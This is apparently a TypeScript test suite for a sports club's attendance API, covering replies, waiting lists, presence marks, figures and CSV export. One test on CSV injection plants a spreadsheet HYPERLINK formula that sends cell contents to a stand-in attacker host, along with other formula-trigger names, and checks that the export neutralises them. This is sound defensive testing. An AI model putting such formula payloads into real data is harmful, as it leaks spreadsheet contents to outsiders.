import { parse } from "csv-parse/sync"
import { describe, expect, it, onTestFinished } from "vitest"
import { expectJson, expectProblem, expectStatus } from "../../expectations.ts"
import type { Club } from "../Club.ts"
import { createAthlete, createSession, createUser, missingId, tokenOf } from "../records.ts"

interface ReplyDto {
  readonly sessionId: number
  readonly athleteId: number
  readonly answer: string
  readonly reason: string | null
  readonly state: string
  readonly waitingPosition: number | null
}

interface SessionRepliesDto {
  readonly sessionId: number
  readonly capacity: number | null
  readonly replyCutoff: string | null
  readonly confirmed: number
  readonly waiting: number
  readonly replies: ReadonlyArray<ReplyDto>
}

/** Far enough ahead that replies are open whenever the tests run. */
const future = "2099-06-01T18:00:00"

/** Issue 18's replies, capacity and waiting list under `/attendance`, on any harness. */
export const attendanceEndpoints = (club: () => Club) => {
  /** A session of the club's coach, in the future, with `count` new athletes (the club's own athlete first when asked). */
  const sessionWithAthletes = async (count: number, options: { readonly withClubAthlete?: boolean } = {}) => {
    const athletes: Array<number> = options.withClubAthlete === true ? [club().athleteId] : []
    for (let i = 0; i < count; i++) athletes.push((await createAthlete(club())).id)
    const session = await createSession(club(), { creneau: future, coachId: club().coachId, athleteIds: athletes })
    return { sessionId: session.id, athletes }
  }
  const settings = (sessionId: number, body: unknown) =>
    club().coach.put(`/attendance/sessions/${sessionId}/settings`, body)
  const replyAs = (role: "COACH" | "ATHLETE", athleteId: number, sessionId: number, body: unknown, query = "") =>
    club().as(role).put(`/attendance/athletes/${athleteId}/replies/${sessionId}${query}`, body)
  const roster = async (sessionId: number) => {
    const reply = await club().athlete.get(`/attendance/sessions/${sessionId}/replies`)
    expect(reply.status, reply.text).toBe(200)
    return reply.body as SessionRepliesDto
  }

  describe("PUT /attendance/sessions/{id}/settings (Coach: the session's own)", () => {
    it("sets the capacity and cut-off and answers the session's replies; a key left out is kept, null clears it", async () => {
      const { sessionId } = await sessionWithAthletes(0)
      expectJson(await settings(sessionId, { capacity: 12, replyCutoff: "2099-06-01T12:00:00" }), 200, {
        sessionId,
        capacity: 12,
        replyCutoff: "2099-06-01T12:00:00",
        confirmed: 0,
        waiting: 0,
        replies: []
      })
      const kept = (await settings(sessionId, { capacity: 15 })).body as SessionRepliesDto
      expect([kept.capacity, kept.replyCutoff]).toEqual([15, "2099-06-01T12:00:00"])
      const cleared = (await settings(sessionId, { capacity: null })).body as SessionRepliesDto
      expect([cleared.capacity, cleared.replyCutoff]).toEqual([null, "2099-06-01T12:00:00"])
    })

    it("refuses another coach's session with 403, and changes nothing", async () => {
      const { sessionId } = await sessionWithAthletes(0)
      await settings(sessionId, { capacity: 3 })
      const other = await createUser(club(), { role: "COACH" })
      const token = await tokenOf(club(), other.name, other.password)
      const reply = await club().withToken(token).put(`/attendance/sessions/${sessionId}/settings`, { capacity: 30 })
      expectProblem(reply, 403, new RegExp(`^Your role may not attendance.configure on session ${sessionId}`, "u"))
      expect((await roster(sessionId)).capacity).toBe(3)
    })

    it("answers 400 naming the field for a negative capacity or a cut-off that is not a local date-time, 404 for no session", async () => {
      const { sessionId } = await sessionWithAthletes(0)
      expectProblem(await settings(sessionId, { capacity: -1 }), 400, /capacity/u)
      expectProblem(await settings(sessionId, { replyCutoff: "tomorrow" }), 400, /replyCutoff/u)
      expectProblem(await settings(missingId, { capacity: 1 }), 404, `Session not found with id ${missingId}`)
    })
  })

  describe("PUT /attendance/athletes/{id}/replies/{sessionId} (Coach, or the athlete itself)", () => {
    it("an athlete replies for itself; a coach for any athlete; yes beyond the capacity waits, in reply order", async () => {
      const { sessionId, athletes } = await sessionWithAthletes(3, { withClubAthlete: true })
      await settings(sessionId, { capacity: 2 })
      const [own, second, third, fourth] = athletes as [number, number, number, number]
      expectJson(await replyAs("ATHLETE", own, sessionId, { answer: "yes" }), 200, [{
        sessionId,
        athleteId: own,
        answer: "yes",
        reason: null,
        state: "confirmed",
        waitingPosition: null
      }])
      await replyAs("COACH", second, sessionId, { answer: "yes" })
      const waiting = await replyAs("COACH", third, sessionId, { answer: "yes", reason: "if there is room" })
      expect((waiting.body as ReadonlyArray<ReplyDto>)[0]).toMatchObject({ state: "waiting", waitingPosition: 1 })
      await replyAs("COACH", fourth, sessionId, { answer: "maybe", reason: "exams" })
      const all = await roster(sessionId)
      expect(all.replies.map((r) => [r.athleteId, r.state, r.waitingPosition])).toEqual([
        [own, "confirmed", null],
        [second, "confirmed", null],
        [third, "waiting", 1],
        [fourth, "maybe", null]
      ])
      expect([all.confirmed, all.waiting]).toEqual([2, 1])
    })

    it("a confirmed athlete saying no confirms the first waiting at once; a larger capacity confirms the next", async () => {
      const { sessionId, athletes } = await sessionWithAthletes(4)
      await settings(sessionId, { capacity: 1 })
      for (const athlete of athletes) await replyAs("COACH", athlete, sessionId, { answer: "yes" })
      const [first, second, third, fourth] = athletes as [number, number, number, number]
      const declined = await replyAs("COACH", first, sessionId, { answer: "no", reason: "injured" })
      expect((declined.body as ReadonlyArray<ReplyDto>)[0]).toMatchObject({ state: "declined", reason: "injured" })
      expect((await roster(sessionId)).replies.map((r) => [r.athleteId, r.state])).toEqual([
        [second, "confirmed"],
        [third, "waiting"],
        [fourth, "waiting"],
        [first, "declined"]
      ])
      const grown = (await settings(sessionId, { capacity: 2 })).body as SessionRepliesDto
      expect(grown.replies.map((r) => [r.athleteId, r.state, r.waitingPosition])).toEqual([
        [second, "confirmed", null],
        [third, "confirmed", null],
        [fourth, "waiting", 1],
        [first, "declined", null]
      ])
    })

    it("an athlete may not reply for another athlete: 403, nothing written", async () => {
      const { sessionId, athletes } = await sessionWithAthletes(1, { withClubAthlete: true })
      expectProblem(await replyAs("ATHLETE", athletes[1]!, sessionId, { answer: "yes" }), 403, /attendance.reply/u)
      expect((await roster(sessionId)).replies).toEqual([])
    })

    it("refuses a reply after the cut-off with 409 saying when replies closed", async () => {
      const { sessionId } = await sessionWithAthletes(0, { withClubAthlete: true })
      await settings(sessionId, { replyCutoff: "2020-01-01T00:00:00" })
      expectProblem(
        await replyAs("ATHLETE", club().athleteId, sessionId, { answer: "yes" }),
        409,
        `Replies to session ${sessionId} closed at 2020-01-01T00:00:00`
      )
      expect((await roster(sessionId)).replies).toEqual([])
    })

    it("refuses a reply to a session that has started (without a cut-off) with 409", async () => {
      const session = await createSession(club(), {
        creneau: "2020-01-01T18:00:00",
        coachId: club().coachId,
        athleteIds: [club().athleteId]
      })
      expectProblem(
        await replyAs("ATHLETE", club().athleteId, session.id, { answer: "no" }),
        409,
        `Replies to session ${session.id} closed at 2020-01-01T18:00:00`
      )
    })

    it("answers 400 naming athleteId for an athlete who is not one of the session's, naming answer for a bad answer; 404 for no session", async () => {
      const { sessionId } = await sessionWithAthletes(1)
      expectProblem(
        await replyAs("ATHLETE", club().athleteId, sessionId, { answer: "yes" }),
        400,
        `athleteId: athlete ${club().athleteId} is not an athlete of session ${sessionId}`
      )
      expectProblem(await replyAs("ATHLETE", club().athleteId, sessionId, { answer: "perhaps" }), 400, /answer/u)
      expectProblem(await replyAs("ATHLETE", club().athleteId, sessionId, {}), 400, /answer/u)
      expectProblem(
        await replyAs("ATHLETE", club().athleteId, missingId, { answer: "yes" }),
        404,
        `Session not found with id ${missingId}`
      )
      expectProblem(
        await replyAs("ATHLETE", club().athleteId, sessionId, { answer: "yes" }, "?scope=all"),
        400,
        /scope/u
      )
    })

    it("with scope=following, replies to this occurrence of a series and every later one", async () => {
      const series = await club().coach.post("/planning/series", {
        name: "Weekly",
        coachId: club().coachId,
        athleteIds: [club().athleteId],
        duree: 60,
        // Within the club's horizon, where occurrences exist, and still ahead.
        start: `${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}T18:00:00`,
        rrule: "FREQ=WEEKLY;COUNT=3"
      })
      expect(series.status, series.text).toBe(201)
      const [first, second, third] = (series.body as { occurrences: ReadonlyArray<{ sessionId: number }> }).occurrences
        .map((o) => o.sessionId)
      const written = await replyAs(
        "ATHLETE",
        club().athleteId,
        second!,
        { answer: "no", reason: "away" },
        "?scope=following"
      )
      expect(written.status, written.text).toBe(200)
      expect((written.body as ReadonlyArray<ReplyDto>).map((r) => [r.sessionId, r.state])).toEqual([
        [second, "declined"],
        [third, "declined"]
      ])
      expect((await roster(first!)).replies).toEqual([])
    })
  })

  describe("GET /attendance/sessions/{id}/replies (any role)", () => {
    it("answers 404 for no session", async () => {
      expectProblem(
        await club().athlete.get(`/attendance/sessions/${missingId}/replies`),
        404,
        `Session not found with id ${missingId}`
      )
    })
  })

  describe("who is invited, and an athlete's sessions (issue 41; any role)", () => {
    interface InvitedPage {
      readonly items: ReadonlyArray<{ athleteId: number; how: string; groupId: number | null; groupName: null }>
      readonly nextCursor: string | null
    }
    interface SessionsPage {
      readonly items: ReadonlyArray<{ sessionId: number; creneau: string; how: string }>
      readonly nextCursor: string | null
    }

    it("GET /attendance/sessions/{id}/invited: the session's athletes in id order, by page; 404 for no session", async () => {
      const { athletes, sessionId } = await sessionWithAthletes(3)
      const all = await club().athlete.get(`/attendance/sessions/${sessionId}/invited`)
      expectJson(all, 200, {
        items: athletes.map((athleteId) => ({ athleteId, how: "athlete", groupId: null, groupName: null })),
        nextCursor: null
      })
      const first = (await club().coach.get(`/attendance/sessions/${sessionId}/invited?limit=2`)).body as InvitedPage
      expect(first.items.map((i) => i.athleteId)).toEqual(athletes.slice(0, 2))
      expect(first.nextCursor).not.toBeNull()
      const next = await club().admin.get(
        `/attendance/sessions/${sessionId}/invited?limit=2&cursor=${first.nextCursor!}`
      )
      expect((next.body as InvitedPage).items.map((i) => i.athleteId)).toEqual(athletes.slice(2))
      expect((next.body as InvitedPage).nextCursor).toBeNull()
      expectProblem(await club().athlete.get(`/attendance/sessions/${missingId}/invited`), 404)
      expectProblem(await club().athlete.get(`/attendance/sessions/${sessionId}/invited?cursor=forged`), 400)
    })

    it("GET /attendance/athletes/{id}/sessions: the athlete's sessions of the period, in creneau order, by page", async () => {
      const athlete = (await createAthlete(club())).id
      const late = await createSession(club(), { creneau: "2099-07-03T18:00:00", athleteIds: [athlete] })
      const early = await createSession(club(), { creneau: "2099-07-01T08:00:00", athleteIds: [athlete] })
      await createSession(club(), { creneau: "2099-08-01T08:00:00", athleteIds: [athlete] })
      await createSession(club(), { creneau: "2099-07-02T08:00:00", athleteIds: [] })
      const path = `/attendance/athletes/${athlete}/sessions?from=2099-07-01&to=2099-07-31`
      const page = (await club().athlete.get(path)).body as SessionsPage
      expect(page.items.map((s) => [s.sessionId, s.creneau, s.how])).toEqual([
        [early.id, "2099-07-01T08:00:00", "athlete"],
        [late.id, "2099-07-03T18:00:00", "athlete"]
      ])
      const first = (await club().coach.get(`${path}&limit=1`)).body as SessionsPage
      expect(first.items.map((s) => s.sessionId)).toEqual([early.id])
      const next = (await club().coach.get(`${path}&limit=1&cursor=${first.nextCursor!}`)).body as SessionsPage
      expect([next.items.map((s) => s.sessionId), next.nextCursor]).toEqual([[late.id], null])
      expectProblem(
        await club().athlete.get(`/attendance/athletes/${athlete}/sessions?from=2099-07-31&to=2099-07-01`),
        400
      )
    })
  })

  describe("who came: PUT and GET /attendance/sessions/{id}/presence", () => {
    const pastSession = async (athletes: ReadonlyArray<number>, fields: Record<string, unknown> = {}) =>
      (await createSession(club(), {
        creneau: "2020-03-01T18:00:00",
        coachId: club().coachId,
        athleteIds: athletes,
        ...fields
      })).id
    const record = (sessionId: number, marks: unknown) =>
      club().coach.put(`/attendance/sessions/${sessionId}/presence`, { marks })

    it("the session's coach records marks once it has started; a correction is kept as history (who, what, when)", async () => {
      const [a, b] = [(await createAthlete(club())).id, (await createAthlete(club())).id]
      const sessionId = await pastSession([a, b])
      const first = await record(sessionId, [{ athleteId: a, status: "present" }, { athleteId: b, status: "late" }])
      expect(first.status, first.text).toBe(200)
      const corrected = await record(sessionId, [{ athleteId: b, status: "excused" }])
      const body = corrected.body as {
        marks: ReadonlyArray<{ athleteId: number; status: string; markedBy: number; markedAt: string }>
        history: ReadonlyArray<{ athleteId: number; status: string; previousStatus: string | null; changedBy: number }>
      }
      expect(body.marks.map((m) => [m.athleteId, m.status, m.markedBy])).toEqual([
        [a, "present", club().user.COACH.id],
        [b, "excused", club().user.COACH.id]
      ])
      expect(body.marks[0]!.markedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/u)
      expect(body.history.map((h) => [h.athleteId, h.status, h.previousStatus, h.changedBy])).toEqual([
        [a, "present", null, club().user.COACH.id],
        [b, "late", null, club().user.COACH.id],
        [b, "excused", "late", club().user.COACH.id]
      ])
      expectJson(await club().admin.get(`/attendance/sessions/${sessionId}/presence`), 200, corrected.body)
    })

    it("refuses before the session has started (409), another coach (403), and athletes (403); nothing is written", async () => {
      const a = (await createAthlete(club())).id
      const { sessionId } = await (async () => {
        const session = await createSession(club(), { creneau: future, coachId: club().coachId, athleteIds: [a] })
        return { sessionId: session.id }
      })()
      expectProblem(
        await record(sessionId, [{ athleteId: a, status: "present" }]),
        409,
        `Session ${sessionId} starts at ${future}; who came is recorded once it has started`
      )
      const past = await pastSession([club().athleteId])
      const other = await createUser(club(), { role: "COACH" })
      const token = await tokenOf(club(), other.name, other.password)
      expectProblem(
        await club().withToken(token).put(`/attendance/sessions/${past}/presence`, {
          marks: [{ athleteId: club().athleteId, status: "absent" }]
        }),
        403
      )
      expectProblem(
        await club().athlete.put(`/attendance/sessions/${past}/presence`, {
          marks: [{ athleteId: club().athleteId, status: "present" }]
        }),
        403,
        "Your role may not attendance.mark"
      )
      expect((await club().coach.get(`/attendance/sessions/${past}/presence`)).body).toEqual({
        sessionId: past,
        marks: [],
        history: []
      })
    })

    it("answers 400 naming marks for an athlete not in the session or marked twice, or a bad status; 404 for no session", async () => {
      const a = (await createAthlete(club())).id
      const sessionId = await pastSession([a])
      expectProblem(
        await record(sessionId, [{ athleteId: club().athleteId, status: "present" }]),
        400,
        `marks: athlete ${club().athleteId} is not an athlete of session ${sessionId}`
      )
      expectProblem(
        await record(sessionId, [{ athleteId: a, status: "present" }, { athleteId: a, status: "late" }]),
        400,
        `marks: athlete ${a} is marked twice`
      )
      expectProblem(await record(sessionId, [{ athleteId: a, status: "there" }]), 400, /marks/u)
      expectProblem(
        await record(missingId, [{ athleteId: a, status: "present" }]),
        404,
        `Session not found with id ${missingId}`
      )
    })
  })

  describe("figures and the season's export", () => {
    it("rates by athlete and by group over a period (coach, admin); an athlete sees its own only", async () => {
      const other = (await createAthlete(club(), { name: "Other, the \"quick\" one" })).id
      const own = club().athleteId
      const groupe = `Figures ${Date.now()}`
      const session = async (creneau: string, athleteIds: ReadonlyArray<number>) =>
        (await createSession(club(), { creneau, coachId: club().coachId, athleteIds, groupe, name: "Track" })).id
      const s1 = await session("2012-02-01T18:00:00", [own, other])
      const s2 = await session("2012-02-29T18:00:00", [own, other])
      const after = await session("2012-03-01T00:00:00", [own])
      await club().coach.put(`/attendance/sessions/${s1}/presence`, {
        marks: [{ athleteId: own, status: "present" }, { athleteId: other, status: "absent" }]
      })
      await club().coach.put(`/attendance/sessions/${s2}/presence`, {
        marks: [{ athleteId: own, status: "absent" }, { athleteId: other, status: "excused" }]
      })
      await club().coach.put(`/attendance/sessions/${after}/presence`, {
        marks: [{ athleteId: own, status: "absent" }]
      })
      const period = "from=2012-02-01&to=2012-02-29"
      const zero = { present: 0, late: 0, absent: 0, excused: 0 }
      const expected = {
        from: "2012-02-01",
        to: "2012-02-29",
        athletes: [
          { ...zero, athleteId: Math.min(own, other), rate: own < other ? 0.5 : 0 },
          { ...zero, athleteId: Math.max(own, other), rate: own < other ? 0 : 0.5 }
        ].map((row) => row.athleteId === own ? { ...row, present: 1, absent: 1 } : { ...row, absent: 1, excused: 1 }),
        groups: [{ ...zero, groupe, present: 1, absent: 2, excused: 1, rate: 1 / 3 }]
      }
      expectJson(await club().coach.get(`/attendance/figures?${period}`), 200, expected)
      expectJson(await club().admin.get(`/attendance/figures?${period}`), 200, expected)
      const mine = await club().athlete.get(`/attendance/athletes/${own}/figures?${period}`)
      expectJson(mine, 200, {
        from: "2012-02-01",
        to: "2012-02-29",
        athletes: [{ ...zero, athleteId: own, present: 1, absent: 1, rate: 0.5 }],
        groups: [{ ...zero, groupe, present: 1, absent: 1, rate: 0.5 }]
      })
      expectProblem(await club().athlete.get(`/attendance/athletes/${other}/figures?${period}`), 403)
      expectProblem(await club().athlete.get(`/attendance/figures?${period}`), 403)

      const csv = await club().coach.get(`/attendance/export?${period}`)
      expectStatus(csv, 200)
      expect(csv.contentType).toBe("text/csv")
      const line = (sessionId: number, creneau: string, athleteId: number, status: string) =>
        `${sessionId},${creneau},Track,${groupe},${athleteId},${
          athleteId === own ? "Alex Athlete" : "\"Other, the \"\"quick\"\" one\""
        },${status}\r\n`
      const ordered = (sessionId: number, creneau: string, marks: Record<number, string>) =>
        [own, other].sort((x, y) => x - y).map((id) => line(sessionId, creneau, id, marks[id]!)).join("")
      expect(csv.text).toBe(
        "session_id,creneau,session_name,groupe,athlete_id,athlete_name,status\r\n" +
          ordered(s1, "2012-02-01T18:00:00", { [own]: "present", [other]: "absent" }) +
          ordered(s2, "2012-02-29T18:00:00", { [own]: "absent", [other]: "excused" })
      )
    })

    it("neutralises cells a spreadsheet would evaluate (OWASP CSV injection): a quote before them, quoted; ids stay numbers", async () => {
      const hyperlink = "=HYPERLINK(\"http://attacker.invalid/?\"&A2,\"open\")"
      // An athlete may rename its own record: the attack.
      const renamed = async (name: string) =>
        expectStatus(
          await club().athlete.put(`/athletes/${club().athleteId}`, { name, categorie: "Senior", niveau: "A" }),
          200
        )
      await renamed(hyperlink)
      onTestFinished(() => renamed("Alex Athlete"))
      const names = ["@SUM(1+1)", "+1+2", "-2+3", "\tTabbed", "\rReturned", "Plain"]
      const others = await Promise.all(names.map(async (name) => (await createAthlete(club(), { name })).id))
      const athleteIds = [club().athleteId, ...others]
      const { id } = await createSession(club(), {
        creneau: "2013-05-07T18:00:00",
        coachId: club().coachId,
        athleteIds,
        groupe: "+Seniors",
        name: "@Track"
      })
      expectStatus(
        await club().coach.put(`/attendance/sessions/${id}/presence`, {
          marks: athleteIds.map((athleteId) => ({ athleteId, status: "present" }))
        }),
        200
      )
      const csv = await club().coach.get("/attendance/export?from=2013-05-07&to=2013-05-07")
      expectStatus(csv, 200)
      const rows = parse(csv.text, {
        record_delimiter: "\r\n",
        relax_quotes: false,
        relax_column_count: false
      }) as Array<
        Array<string>
      >
      expect(rows[0]).toEqual([
        "session_id",
        "creneau",
        "session_name",
        "groupe",
        "athlete_id",
        "athlete_name",
        "status"
      ])
      const expectedNames = new Map([hyperlink, ...names].map((name, index) => [athleteIds[index]!, name]))
      expect(rows.slice(1)).toEqual(
        [...athleteIds].sort((x, y) => x - y).map((athleteId) => {
          const name = expectedNames.get(athleteId)!
          return [
            String(id),
            "2013-05-07T18:00:00",
            "'@Track",
            "'+Seniors",
            String(athleteId),
            name === "Plain" ? name : `'${name}`,
            "present"
          ]
        })
      )
      // Every neutralised cell is a quoted field, as OWASP advises.
      expect(csv.text).toContain(`,"'@Track","'+Seniors",`)
    })

    it("answers 400 naming to when it is before from, naming from when it is not a date", async () => {
      expectProblem(await club().coach.get("/attendance/figures?from=2012-02-02&to=2012-02-01"), 400, /^to: /u)
      expectProblem(await club().coach.get("/attendance/export?from=2012-02-02&to=2012-02-01"), 400, /^to: /u)
      expectProblem(await club().coach.get("/attendance/figures?from=yesterday&to=2012-02-01"), 400, /from/u)
    })
  })
}
